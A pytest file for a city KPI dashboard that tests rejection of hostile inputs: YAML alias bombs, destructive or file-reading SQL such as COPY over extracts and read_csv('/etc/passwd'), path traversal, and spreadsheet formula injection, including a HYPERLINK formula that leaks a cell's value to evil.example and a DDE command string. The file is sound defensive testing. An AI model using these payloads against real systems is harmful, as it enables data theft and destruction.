"""The hostile-input corpus: broken registries, resource bombs, hostile SQL and path tricks.

Each case asserts the message a person sees (file, line, entry) and that the rest of the app
keeps serving. Real YAML files, real Parquet, real DuckDB, real Streamlit (AppTest).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from citystat.api import CityStat
from citystat.auth import PUBLIC_USER
from citystat.registry.loader import RegistryError, load_registry

from tests.support.apptest import texts
from tests.support.cities import REGISTRY, make_city
from tests.conftest import PROJECT_ROOT


def line_of(text: str, needle: str) -> int:
    """1-based line of the first line of `text` containing `needle` (worked out by the test)."""
    return next(n for n, line in enumerate(text.splitlines(), start=1) if needle in line)


def bomb(levels: int = 9) -> str:
    """The 'billion laughs': a few hundred bytes of aliases expanding to 10**levels values."""
    lines = ['lol0: &lol0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in range(1, levels + 1):
        ref = f"*lol{level - 1}"
        lines.append(f"lol{level}: &lol{level} [{', '.join([ref] * 10)}]")
    return "\n".join(lines) + "\n"


# name -> (the broken registry as bytes, the line the message names, a phrase it must contain).
# Fatal cases: the whole file cannot be used.
FATAL = {
    "tab_indentation": (REGISTRY.replace("\n  name: Testville", "\n\tname: Testville").encode(),
                        2, "indent with spaces, not tabs"),
    "unclosed_quote": (REGISTRY.replace("title: Requests received", "title: 'Requests received").encode(),
                       line_of(REGISTRY, "title: Requests received"), "quoted scalar"),
    "unclosed_bracket": (REGISTRY.replace("tags: [public]\n    targets:\n      - {from: 2025-07-01, value: 150}",
                                          "tags: [public\n    targets:\n      - {from: 2025-07-01, value: 150}").encode(),
                         line_of(REGISTRY, "tags: [public]"), "flow sequence"),
    "duplicate_key": (REGISTRY.replace("    title: Requests received\n",
                                       "    title: Requests received\n    title: Again\n").encode(),
                      line_of(REGISTRY, "title: Requests received") + 1, 'duplicate key "title"'),
    "bad_indentation": (REGISTRY.replace("    unit: count\n", "     unit: count\n", 1).encode(),
                        line_of(REGISTRY, "unit: count"), "mapping values are not allowed"),
    "empty_file": (b"", 1, "the file is empty"),
    "only_comments": (b"# the registry\n# nothing yet\n", 1, "the file is empty"),
    "top_level_list": (b"- city: {name: Testville}\n- departments: []\n", 1, "the top level is a list"),
    "top_level_scalar": (b"Testville\n", 1, "the top level is a single value"),
    "latin1_bytes": (REGISTRY.replace("Chief Marker-Head-Zeta", "Chef Marqué").encode("latin-1"),
                     line_of(REGISTRY, "Chief Marker-Head-Zeta"), "not UTF-8: byte 0xe9"),
    "alias_bomb": ((bomb() + REGISTRY.replace("tags: [public]", "tags: *lol9", 1)).encode(), 2,   # first alias
                   "expands to more than"),
    "oversized_file": ((REGISTRY + "#" + "x" * 1_100_000 + "\n").encode(), None, "MB limit"),
}


@pytest.mark.parametrize("case", sorted(FATAL))
def test_broken_registry_names_file_and_line(tmp_path: Path, case: str) -> None:
    data, line, phrase = FATAL[case]
    path = make_city(tmp_path / "city")
    path.write_bytes(data)
    with pytest.raises(RegistryError) as caught:
        load_registry(path)
    problem = caught.value.problems[0]
    assert (problem.file, problem.line) == (str(path), line)
    assert phrase in problem.message
    assert str(problem).startswith(f"{path}:{line}: " if line else f"{path}: ")


# Entry-level cases: the entry is left out with file, line and entry named; the rest loads.
ENTRY = {
    "impossible_date": (REGISTRY.replace("{from: 2025-07-01, value: 150}", "{from: 2025-02-30, value: 150}"),
                        line_of(REGISTRY, "{from: 2025-07-01, value: 150}"), "metric requests_count",
                        "targets.0.from: '2025-02-30' is not a real date"),
    "misspelt_key": (REGISTRY.replace("    title: Requests received", "    titel: Requests received"),
                     line_of(REGISTRY, "title: Requests received"), "metric requests_count",
                     "unknown key 'titel' (did you mean 'title'?)"),
    "misspelt_nested_key": (REGISTRY.replace("measure: {agg: count}\n  - id: elevated_share",
                                             "measure: {agg: count, filtre: x}\n  - id: elevated_share"),
                            line_of(REGISTRY, "measure: {agg: count}"), "metric requests_count",
                            "measure: unknown key 'filtre' (did you mean 'filter'?)"),
    "misspelt_top_level_key": (REGISTRY.replace("departments:", "departmnts:"), line_of(REGISTRY, "departments:"),
                               None, "unknown top-level key 'departmnts' (did you mean 'departments'?)"),
}


@pytest.mark.parametrize("case", sorted(ENTRY))
def test_broken_entry_is_named_and_the_rest_loads(tmp_path: Path, case: str) -> None:
    text, line, entry, phrase = ENTRY[case]
    path = make_city(tmp_path / "city", text)
    registry = load_registry(path)
    matching = [p for p in registry.problems if phrase in p.message]
    assert matching, [str(p) for p in registry.problems]
    assert (matching[0].file, matching[0].line, matching[0].entry) == (str(path), line, entry)
    if entry:
        assert "elevated_share" in registry.metrics and "old_readings" in registry.metrics


# ---- the app keeps serving ------------------------------------------------------------------

def _open(page: str, registry: Path, monkeypatch, user=None):
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("CITYSTAT_REGISTRY", str(registry))
    app = AppTest.from_file(str(PROJECT_ROOT / "app.py"), default_timeout=180)
    if user is not None:
        app.session_state["citystat_user"] = user
    app.switch_page(page)
    app.run()
    assert not app.exception, [e.value for e in app.exception]
    return app


def _banner(app) -> str:
    return "\n".join(e.value for e in app.error)


@pytest.mark.parametrize("case", sorted(FATAL))
def test_an_edit_that_breaks_the_registry_keeps_the_last_good_one(tmp_path: Path, monkeypatch, case: str) -> None:
    data, line, phrase = FATAL[case]
    path = make_city(tmp_path / "city")
    app = _open("pages/overview.py", path, monkeypatch)
    assert "Requests received" in texts(app) and not _banner(app)
    path.write_bytes(data)  # an analyst saves a broken registry while the app runs
    app.run()
    assert not app.exception, [e.value for e in app.exception]
    shown = texts(app)
    assert "Requests received" in shown and "Children with elevated lead" in shown  # the last good registry
    banner = _banner(app)
    assert "does not load" in banner and "last version that loaded" in banner
    assert (f"{path}:{line}:" if line else f"{path}:") in banner and phrase in banner
    public = _open("pages/public.py", path, monkeypatch, PUBLIC_USER)  # the same process: last good city
    assert "Requests received" in texts(public) and not _banner(public)


@pytest.mark.parametrize("case", ["tab_indentation", "latin1_bytes", "top_level_list"])
def test_a_first_start_on_a_broken_registry_shows_an_empty_city_and_the_error(tmp_path: Path, monkeypatch,
                                                                              case: str) -> None:
    data, line, phrase = FATAL[case]
    path = make_city(tmp_path / "city")
    path.write_bytes(data)
    app = _open("pages/overview.py", path, monkeypatch)
    banner = _banner(app)
    assert f"{path}:{line}:" in banner and phrase in banner and "no KPIs can be shown" in banner
    public = _open("pages/public.py", path, monkeypatch, PUBLIC_USER)
    assert not _banner(public)  # the public see no internals
    path.write_text(REGISTRY, encoding="utf-8")  # fixed: served on the next run
    app.run()
    assert "Requests received" in texts(app) and not _banner(app)


def test_scripts_still_get_the_error(tmp_path: Path) -> None:
    path = make_city(tmp_path / "city")
    path.write_bytes(FATAL["tab_indentation"][0])
    with pytest.raises(RegistryError, match=r"metrics.yaml:2: YAML syntax"):
        CityStat.open(path, use_disk_cache=False).sync()


# ---- resource limits in the registry --------------------------------------------------------

def derived_chain(count: int) -> str:
    """`count` derived metrics, each built on the one before (d0 on requests_count), one line each."""
    return "".join(
        f"  - {{id: d{i}, title: Chain {i}, department: ops, owner: O, description: d, unit: count, "
        f"direction: higher, derived: \"{'requests_count' if i == 0 else f'd{i - 1}'} + 1\"}}\n"
        for i in range(count))


def test_a_long_chain_of_derived_metrics_is_cut_at_the_depth_limit_and_the_overview_serves(tmp_path: Path) -> None:
    text = REGISTRY + derived_chain(995)  # with the stack already in use, deeper than Python's recursion limit
    path = make_city(tmp_path / "city", text)
    stat = CityStat.open(path, use_disk_cache=False).sync()
    assert "d19" in stat.registry.metrics and "d20" not in stat.registry.metrics
    problem = next(p for p in stat.registry.problems if p.entry == "metric d20")
    assert problem.line == line_of(text, "id: d20,")
    assert "derived metrics nest 21 deep here" in problem.message and "the limit is 20" in problem.message
    after = next(p for p in stat.registry.problems if p.entry == "metric d21")
    assert "left out: d20" in after.message
    rows = {r.metric.id: r for r in stat.overview()}  # no RecursionError
    # requests_count is 140 a week (20 a day); d19 adds 1 twenty times
    assert rows["requests_count"].current["value"] == 140 and rows["d19"].current["value"] == 160


def test_too_many_metrics_fail_fast_with_the_limit(tmp_path: Path) -> None:
    text = REGISTRY + "".join(
        f"  - {{id: m{i}, title: M {i}, department: ops, owner: O, description: d, unit: count, "
        f"direction: higher, source: requests, measure: {{agg: count}}}}\n" for i in range(1_000))
    path = make_city(tmp_path / "city", text)
    with pytest.raises(RegistryError) as caught:
        load_registry(path)
    problem = caught.value.problems[0]
    assert problem.line == line_of(text, "metrics:")
    assert problem.message.startswith("1,003 metrics, more than the limit of 1,000")


# ---- hostile SQL ----------------------------------------------------------------------------

@pytest.fixture
def testville(tmp_path: Path) -> CityStat:
    return CityStat.open(make_city(tmp_path / "city"), use_disk_cache=False).sync()


def request_rows(stat: CityStat) -> int:
    import polars as pl

    return pl.read_parquet(stat.registry.root / "data" / "requests.parquet").height


COPY_OVER_EXTRACT = "COPY (SELECT * FROM requests WHERE request_id < 0) TO '{data}/requests.parquet' (FORMAT parquet)"

# name -> (SQL typed into an Explore cell, a phrase of the message beside the cell)
HOSTILE_CELLS = {
    "copy_over_an_extract": (COPY_OVER_EXTRACT + ";\nSELECT 1 AS x", "One statement per cell"),
    "copy_alone": (COPY_OVER_EXTRACT, "COPY statements are refused"),
    "drop_view": ("DROP VIEW requests", "DROP statements are refused"),
    "create_view": ("CREATE VIEW requests2 AS SELECT 1", "CREATE statements are refused"),
    "create_temp_macro": ("CREATE TEMP MACRO twice(x) AS x * 2", "CREATE statements are refused"),
    "attach": ("ATTACH '/tmp/evil.db'", "ATTACH statements are refused"),
    "set_setting": ("SET enable_external_access = true", "SET statements are refused"),
    "pragma": ("PRAGMA database_list", "PRAGMA statements are refused"),
    "select_then_drop": ("SELECT 1; DROP VIEW requests", "this cell has 2"),
    "read_etc_passwd": ("SELECT * FROM read_csv('/etc/passwd')", "read_csv() is not available"),
    "read_text": ("SELECT * FROM read_text('/etc/hostname')", "read_text() is not available"),
    "glob_files": ("SELECT * FROM glob('/etc/*')", "glob() is not available"),
    "settings_show_paths": ("SELECT * FROM duckdb_settings()", "duckdb_settings() is not available"),
    "views_show_paths": ("SELECT sql FROM duckdb_views()", "duckdb_views() is not available"),
    "views_without_brackets": ("SELECT * FROM duckdb_views", "the table duckdb_views is not available"),
    "current_setting": ("SELECT current_setting('temp_directory') AS t", "current_setting() is not available"),
    "information_schema_views": ("SELECT view_definition FROM information_schema.views",
                                 "information_schema.views is not available"),
    "sql_in_a_string": ("SELECT * FROM query('SELECT * FROM duckdb_settings()')", "query() is not available"),
    "getenv": ("SELECT getenv('HOME') AS h", "getenv() is not available"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_CELLS))
def test_hostile_explore_cells_are_refused_and_nothing_changes(testville: CityStat, case: str) -> None:
    from citystat.analyst.explore import run_cell

    sql, phrase = HOSTILE_CELLS[case]
    before = request_rows(testville)
    result = run_cell(testville.engine, sql.format(data=testville.registry.root / "data"))
    assert result.error is not None and phrase in result.error, result.error
    assert request_rows(testville) == before  # the extract is intact
    again = run_cell(testville.engine, "SELECT count(*) AS n FROM requests")  # the sources still serve
    assert again.ok and again.frame["n"][0] == before


@pytest.mark.parametrize("sql", [";;SELECT count(*) AS n FROM requests", "SELECT count(*) AS n FROM requests -- all of them",
                                 "SELECT count(*) AS n FROM requests;  -- done\n", "\n\n;SELECT count(*) AS n FROM requests;;"])
def test_leading_semicolons_and_trailing_comments_keep_the_row_limit(testville: CityStat, sql: str) -> None:
    from citystat.analyst.explore import run_cell

    result = run_cell(testville.engine, sql, row_limit=10)
    assert result.ok, result.error
    assert result.frame["n"][0] == request_rows(testville)
    many = run_cell(testville.engine, "SELECT * FROM requests -- every row", row_limit=10)
    assert many.ok and many.frame.height == 10 and many.truncated


def test_promoting_a_cell_that_copies_over_an_extract_writes_nothing(testville: CityStat) -> None:
    from citystat.analyst.promote import KpiDetails, draft_sql_metric, preview_promotion

    path = testville.registry.path
    before = request_rows(testville)
    cell = (COPY_OVER_EXTRACT.format(data=path.parent / "data") + ";\n"
            "SELECT CAST(date_trunc($grain, created_at) AS DATE) AS period_start, count(*) AS value "
            "FROM requests GROUP BY 1")
    draft = draft_sql_metric(KpiDetails("wiped", "Wiped", "ops", "O", "d"), cell)
    preview = preview_promotion(path, draft)
    assert not preview.ok
    assert any(p.entry == "metric wiped" and "expected one SQL statement, got 2" in p.message for p in preview.problems)
    assert request_rows(testville) == before == 20 * 56


def test_a_sql_file_that_drops_a_view_is_blamed_on_its_metric_and_changes_nothing(tmp_path: Path) -> None:
    text = REGISTRY + (
        "  - {id: sneaky, title: Sneaky, department: ops, owner: O, description: d, unit: count, "
        "direction: higher, sql: queries/sneaky.sql}\n")
    path = make_city(tmp_path / "city", text)
    (path.parent / "queries").mkdir()
    (path.parent / "queries" / "sneaky.sql").write_text(
        "DROP VIEW requests;\nSELECT CAST(date_trunc($grain, created_at) AS DATE) AS period_start, "
        "count(*) AS value FROM requests GROUP BY 1\n")
    stat = CityStat.open(path, use_disk_cache=False).sync()
    problems = [p for p in stat.problems() if p.entry == "metric sneaky"]
    assert problems and "expected one SQL statement, got 2" in problems[0].message
    assert not [p for p in stat.problems() if p.entry == "source requests"]
    rows = {r.metric.id: r for r in stat.overview()}
    assert rows["requests_count"].current["value"] == 140  # the view is still there


def test_a_sql_source_cannot_run_a_second_statement(tmp_path: Path) -> None:
    text = REGISTRY.replace("metrics:\n", "  - {id: sneaky, description: d, sql: queries/sneaky.sql}\nmetrics:\n", 1)
    path = make_city(tmp_path / "city", text)
    (path.parent / "queries").mkdir()
    (path.parent / "queries" / "sneaky.sql").write_text("SELECT 1 AS x; DROP VIEW requests")
    stat = CityStat.open(path, use_disk_cache=False).sync()
    problem = next(p for p in stat.problems() if p.entry == "source sneaky")
    assert "expected one SQL statement, got 2" in problem.message
    assert "requests" in stat.engine.available and stat.engine.query("SELECT count(*) AS n FROM requests")["n"][0] == 1120


def test_an_alert_rule_of_kind_sql_can_only_read(testville: CityStat) -> None:
    from citystat.alerts.rules import parse_alert_rules
    from citystat.alerts.run import evaluate_rule
    from datetime import date

    rules = parse_alert_rules(
        "rules:\n  - {id: wipe, title: t, department: ops, kind: sql, key_columns: [x], "
        f"sql: \"{COPY_OVER_EXTRACT.format(data=testville.registry.root / 'data')}\"}}\n")
    with pytest.raises(Exception, match="only SELECT queries may run here, not COPY"):
        evaluate_rule(testville, rules.get("wipe"), date(2026, 3, 1), testville.registry.root)
    assert request_rows(testville) == 1120


# ---- path tricks --------------------------------------------------------------------------------

@pytest.mark.parametrize("source_path", ["/etc/passwd", "/etc/**/*.conf", "../../outside/secret.parquet",
                                         "data/*/../../../outside/*.parquet"])
def test_a_source_outside_the_data_root_is_an_error_and_opens_nothing(tmp_path: Path, source_path: str) -> None:
    text = REGISTRY.replace("path: data/old_feed.parquet", f"path: {source_path}")
    path = make_city(tmp_path / "city", text)
    registry = load_registry(path)
    problem = next(p for p in registry.problems if p.entry == "source old_feed")
    assert problem.line == line_of(text, "id: old_feed")
    assert f"path {source_path!r} is outside the data folder {path.parent}" in problem.message
    stat = CityStat.open(path, use_disk_cache=False).sync()
    assert stat.engine.sandbox_folders() == [f"{path.parent / 'data'}/"]
    cursor = stat.engine.con.cursor()  # behind the guard, DuckDB itself refuses /etc
    with pytest.raises(Exception, match="(?i)disabled by configuration|permission"):
        cursor.sql("SELECT * FROM read_csv('/etc/passwd')").fetchall()
    assert "requests_count" in stat.registry.metrics  # the rest serves


def test_a_failing_source_widens_nothing(tmp_path: Path) -> None:
    text = REGISTRY.replace("path: data/old_feed.parquet", "path: private/old_feed.parquet")
    path = make_city(tmp_path / "city", text)
    (path.parent / "private").mkdir()
    (path.parent / "private" / "old_feed.parquet").write_bytes(b"PAR1 not really parquet PAR1")
    (path.parent / "private" / "salaries.csv").write_text("name,salary\nmayor,1\n")
    stat = CityStat.open(path, use_disk_cache=False).sync()
    assert "old_feed" not in stat.engine.available
    assert stat.engine.sandbox_folders() == [f"{path.parent / 'data'}/"]
    cursor = stat.engine.con.cursor()
    with pytest.raises(Exception, match="(?i)disabled by configuration|permission"):
        cursor.sql(f"SELECT * FROM read_csv('{path.parent / 'private' / 'salaries.csv'}')").fetchall()


def test_duckdbs_spill_folder_is_not_the_working_directorys_tmp(tmp_path: Path, monkeypatch) -> None:
    import polars as pl

    path = make_city(tmp_path / "city")
    monkeypatch.chdir(path.parent)
    (path.parent / ".tmp").mkdir()
    pl.DataFrame({"secret": [42]}).write_parquet(path.parent / ".tmp" / "secret.parquet")
    stat = CityStat.open(path, use_disk_cache=False).sync()
    cursor = stat.engine.con.cursor()
    with pytest.raises(Exception, match="(?i)disabled by configuration|permission"):
        cursor.sql("SELECT * FROM read_parquet('.tmp/secret.parquet')").fetchall()


@pytest.mark.parametrize("sql, phrase", [
    ("SELECT list_sum(range(3000000000))", "needed more than 1 GB of memory"),
    ("SELECT length(repeat('x',3000000000))", "needed more than 1 GB of memory"),
    ("SELECT repeat('x',50000000) FROM range(40)", "stopped"),  # by the memory cap or the time limit
    ("SELECT count(*) FROM range(1000000000000) a", "Stopped after 1 s (the time limit)"),
])
def test_explore_limits_hold_and_say_so_beside_the_cell(testville: CityStat, sql: str, phrase: str) -> None:
    from citystat.analyst.explore import run_cell

    result = run_cell(testville.engine, sql, time_limit=1)
    assert result.error is not None and phrase.lower() in result.error.lower(), result.error
    assert run_cell(testville.engine, "SELECT count(*) AS n FROM requests").frame["n"][0] == 1120


# ---- damaged files and spreadsheet formulas -----------------------------------------------------

def damage(file: Path, start: int, stop: int) -> None:
    data = bytearray(file.read_bytes())
    data[start:stop] = b"\xff" * (stop - start)
    file.write_bytes(bytes(data))


def test_a_corrupt_parquet_page_is_named_as_a_corrupt_file(tmp_path: Path) -> None:
    from citystat.analyst.explore import run_cell

    path = make_city(tmp_path / "city")
    damage(path.parent / "data" / "requests.parquet", 4, 40)  # the first page header
    stat = CityStat.open(path, use_disk_cache=False).sync()
    result = run_cell(stat.engine, "SELECT * FROM requests")
    assert result.error.startswith(f"the extract {path.parent / 'data' / 'requests.parquet'} is corrupt"), result.error
    assert run_cell(stat.engine, "SELECT count(*) AS n FROM cases").ok  # the other extracts serve


def test_a_corrupt_parquet_footer_is_named_as_a_corrupt_file(tmp_path: Path) -> None:
    path = make_city(tmp_path / "city")
    file = path.parent / "data" / "old_feed.parquet"
    damage(file, file.stat().st_size - 40, file.stat().st_size - 8)
    stat = CityStat.open(path, use_disk_cache=False).sync()
    problem = next(p for p in stat.problems() if p.entry == "source old_feed")
    assert problem.line == line_of(REGISTRY, "id: old_feed")
    assert "cannot read 'data/old_feed.parquet': the file is corrupt" in problem.message
    assert {r.metric.id: r for r in stat.overview()}["requests_count"].current["value"] == 140


@pytest.mark.parametrize("typed", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "+1+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_csv_downloads_neutralise_spreadsheet_formulas(typed: str) -> None:
    import io

    import polars as pl

    from citystat.files.csv import csv_text

    frame = pl.DataFrame({"commitment": [typed, "Fix 40 potholes"], "owner": ["Chief", "=cmd"], "n": [-3, 4]})
    back = pl.read_csv(io.StringIO(csv_text(frame)))
    assert back["commitment"].to_list() == ["'" + typed, "Fix 40 potholes"]
    assert back["owner"].to_list() == ["Chief", "'=cmd"]
    assert back["n"].to_list() == [-3, 4]  # numbers stay numbers


def test_open_data_csv_downloads_neutralise_formulas(tmp_path: Path) -> None:
    import io

    import polars as pl

    from citystat.publish.catalog import to_bytes

    frame = pl.DataFrame({"district": ["=1+1", "D1"]})
    assert pl.read_csv(io.BytesIO(to_bytes(frame, "csv")))["district"].to_list() == ["'=1+1", "D1"]
